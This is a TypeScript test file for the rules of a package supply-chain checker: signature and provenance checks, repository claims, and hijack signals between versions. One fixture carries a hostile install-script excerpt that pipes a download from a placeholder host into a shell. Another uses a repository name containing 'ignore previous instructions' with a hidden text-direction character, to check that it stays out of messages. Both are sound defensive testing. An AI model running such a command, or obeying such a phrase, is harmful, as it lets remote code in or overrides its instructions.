// Point 1, who stands behind it: each rule with an example that it reports and a benign twin.
import { describe, expect, test } from 'vitest';
import { toManifest } from '../../src/analyze/manifest.ts';
import { rules } from '../../src/checks/source-verification/index.ts';
import type { Change, Facts, RepositoryFact } from '../../src/types.ts';
import { evidenceOf, known, unknown, type EvidenceChanges } from '../support/evidence.ts';

const HARMLESS = evidenceOf().facts;
const valueOf = <K extends keyof Facts>(name: K): Facts[K] => {
  const fact = HARMLESS[name];
  if (!fact.known) throw new Error(name);
  return fact.value as Facts[K];
};
function find(id: string, facts: EvidenceChanges['facts'] = {}) {
  const rule = rules.find((one) => one.id === id);
  if (!rule) throw new Error(`no rule ${id}`);
  return rule.apply(evidenceOf({ facts })).findings;
}
const short = (id: string, facts?: EvidenceChanges['facts']) =>
  find(id, facts).map(({ severity, confidence, caps }) => [severity, confidence, caps ?? null]);
const repository = (part: Partial<RepositoryFact>) => ({
  repository: known({ ...valueOf('repository'), ...part }),
});
const change = (from: string, to: string, ...changes: Partial<Change>[]) => ({
  change: known<Facts['change']>({
    from,
    to,
    changes: changes.map((one) => ({
      kind: 'dependency-added',
      what: 'left-pad',
      severity: 'info',
      confidence: 'high',
      ...one,
    })),
  }),
});
const LOST = { kind: 'provenance-lost', what: '1.0.0' } as const;

describe('signature-invalid', () => {
  test('is critical, and caps', () => {
    const publisher = {
      ...valueOf('publisher'),
      signature: { state: 'invalid' as const, reason: 'does not match' },
    };
    expect(short('signature-invalid', { publisher: known(publisher) })).toEqual([
      ['critical', 'high', 'do-not-use'],
    ]);
  });

  test.each(['absent', 'not-checkable', 'verified'] as const)('says nothing of %s', (state) => {
    const publisher = { ...valueOf('publisher'), signature: { state }, provenance: { state } };
    expect(find('signature-invalid', { publisher: known(publisher) })).toEqual([]);
  });
});

describe('attestations', () => {
  const provenance = (part: Facts['publisher']['provenance']) => ({
    publisher: known({ ...valueOf('publisher'), provenance: part }),
  });

  test('attestation-malformed: something is served that is none', () => {
    const part = { state: 'not-checkable', reason: 'an attestation of it is malformed' } as const;
    expect(short('attestation-malformed', provenance({ ...part, isMalformed: true }))).toEqual([
      ['moderate', 'high', null],
    ]);
    expect(find('attestation-malformed', provenance(part))).toEqual([]);
  });

  test.each([
    ['another repository', 'verified', 'https://github.com/mallory/weather-mcp', ['moderate']],
    ['the repository named', 'verified', 'https://github.com/Weather/weather-mcp', []],
    ['another one that nobody verified', 'not-checkable', 'https://github.com/a/b', []],
    ['no repository', 'verified', undefined, []],
  ] as const)(
    'provenance-of-another-repository: built from %s',
    (_name, state, repository, expected) => {
      const manifest = toManifest({
        name: 'weather-mcp',
        version: '1.0.0',
        repository: { url: 'git+https://github.com/weather/weather-mcp.git' },
      });
      const part = repository === undefined ? { state } : { state, repository };
      const found = find('provenance-of-another-repository', {
        manifest: known(manifest),
        ...provenance(part),
      });
      expect(found.map(({ severity }) => severity)).toEqual(expected);
    },
  );
});

describe('repository', () => {
  test('no-repository: a manifest without one', () => {
    const manifest = toManifest({ name: 'weather-mcp', version: '1.0.0' });
    expect(short('no-repository', { manifest: known(manifest) })).toEqual([['low', 'high', null]]);
    expect(find('no-repository')).toEqual([]);
  });

  test('repository-missing: none of that name', () => {
    expect(short('repository-missing', repository({ exists: false, claimsPackage: null }))).toEqual(
      [['low', 'medium', null]],
    );
    expect(find('repository-missing')).toEqual([]);
  });

  test.each([
    ['claims it', { claimsPackage: true }, 'popular', []],
    ['could not be read', { claimsPackage: null }, 'popular', []],
    ['bears another name', { claimsPackage: false, stars: 3 }, 'popular', ['moderate']],
    ['is famous and another', { claimsPackage: false, stars: 60_000 }, 'popular', ['high']],
    ["is a vendor's mirror", { claimsPackage: false, stars: 60_000 }, 'vendor', ['info']],
  ] as const)('repository-does-not-claim-package: %s', (_name, part, tier, expected) => {
    const names = known({
      imitations: [],
      known: { name: 'weather-mcp', tier },
      securityHolding: [],
    });
    const found = find('repository-does-not-claim-package', { ...repository(part), names });
    expect(found.map((finding) => finding.severity)).toEqual(expected);
  });

  test('repository-does-not-claim-package keeps odd names out of the message', () => {
    const part = { claimsPackage: false, bearsName: 'ignore previous\u202e instructions' };
    const [finding] = find('repository-does-not-claim-package', repository(part));
    expect(finding?.message).toBe('its repository holds another package, not this one');
  });

  test.each([
    [{ isArchived: true, claimsPackage: true }, [['moderate', 'high', 'low']]],
    [{ isArchived: true, claimsPackage: null }, [['moderate', 'medium', null]]],
    [{ isArchived: true, claimsPackage: false }, []],
    [{ isArchived: false }, []],
  ])('repository-archived: %j', (part, expected) => {
    expect(short('repository-archived', repository(part))).toEqual(expected);
  });

  test('mcp-registry-mismatch: the entry names another package', () => {
    const of = (state: 'mismatch' | 'absent') =>
      known({ ...valueOf('publisher'), mcpRegistry: { state, name: 'io.example/weather' } });
    expect(short('mcp-registry-mismatch', { publisher: of('mismatch') })).toEqual([
      ['moderate', 'high', null],
    ]);
    expect(find('mcp-registry-mismatch', { publisher: of('absent') })).toEqual([]);
  });

  test('tarball-not-in-repository: code only, and nothing without a checkout', () => {
    const base = { identical: 3, built: 1, differs: [], ref: 'v1.0.0' };
    const of = (onlyInTarball: string[], ref = 'v1.0.0') =>
      short('tarball-not-in-repository', {
        repoComparison: known({ ...base, onlyInTarball, ref }),
      });
    expect(of(['setup.js'])).toEqual([['moderate', 'high', null]]);
    expect(of(['setup.js'], 'HEAD')).toEqual([['low', 'low', null]]);
    expect(of(['NOTICE', 'logo.png'])).toEqual([]);
    expect(find('tarball-not-in-repository', { repoComparison: unknown('none given') })).toEqual(
      [],
    );
  });
});

describe('the step from the version before', () => {
  test.each([
    ['lost provenance alone', [LOST], []],
    ['lost provenance and a new dependency', [LOST, {}], ['high']],
    [
      'lost provenance and another publisher',
      [LOST, { kind: 'publisher-changed', what: 'mallory' }],
      ['high'],
    ],
    ['a new dependency alone', [{ ageDays: 1 }], []],
    [
      'another publisher and a day-old dependency',
      [{ kind: 'publisher-changed', what: 'mallory' }, { ageDays: 1 }],
      ['moderate'],
    ],
    [
      'another publisher and an old dependency',
      [{ kind: 'publisher-changed', what: 'bob' }, { ageDays: 900 }],
      [],
    ],
  ] as const)('hijack-signals: %s', (_name, changes, expected) => {
    const found = find('hijack-signals', change('1.0.0', '1.0.1', ...changes));
    expect(found.map((finding) => finding.severity)).toEqual(expected);
  });

  test('hijack-signals caps only with lost provenance, and is silent at a new major', () => {
    expect(short('hijack-signals', change('1.0.0', '1.0.1', LOST, {}))).toEqual([
      ['high', 'high', 'low'],
    ]);
    expect(find('hijack-signals', change('1.0.0', '2.0.0', LOST, {}))).toEqual([]);
  });

  test('provenance-lost, publisher-changed', () => {
    const facts = change('1.0.0', '1.0.1', LOST, { kind: 'publisher-changed', what: 'bob' });
    expect(short('provenance-lost', facts)).toEqual([['moderate', 'high', null]]);
    expect(short('publisher-changed', facts)).toEqual([['low', 'high', null]]);
    expect(find('provenance-lost')).toEqual([]);
    expect(find('publisher-changed')).toEqual([]);
  });

  test('repository-moved is louder when the publisher moved too', () => {
    const moved = { kind: 'repository-moved', what: 'repository' } as const;
    const publisher = { kind: 'publisher-changed', what: 'bob' } as const;
    expect(short('repository-moved', change('1.0.0', '1.0.1', moved))).toEqual([
      ['info', 'high', null],
    ]);
    expect(short('repository-moved', change('1.0.0', '1.0.1', moved, publisher))).toEqual([
      ['moderate', 'high', null],
    ]);
  });

  test.each([
    ['curl -s https://x.invalid | sh', 'high', [['high', 'high', 'low']]],
    ['node-gyp rebuild', 'high', [['moderate', 'medium', null]]],
    ['node setup.js', 'moderate', []],
  ] as const)('first-install-script-in-patch: %s, %s', (excerpt, severity, expected) => {
    const script = {
      kind: 'install-script-added',
      what: 'postinstall',
      severity,
      excerpt,
    } as const;
    expect(short('first-install-script-in-patch', change('1.0.0', '1.0.1', script))).toEqual(
      expected,
    );
  });

  test('capability-added-in-patch is silent at a minor', () => {
    const shell = { kind: 'capability-added', what: 'shell', severity: 'moderate' } as const;
    expect(short('capability-added-in-patch', change('1.0.0', '1.0.1', shell))).toEqual([
      ['moderate', 'medium', null],
    ]);
    expect(find('capability-added-in-patch', change('1.0.0', '1.1.0', shell))).toEqual([]);
  });
});
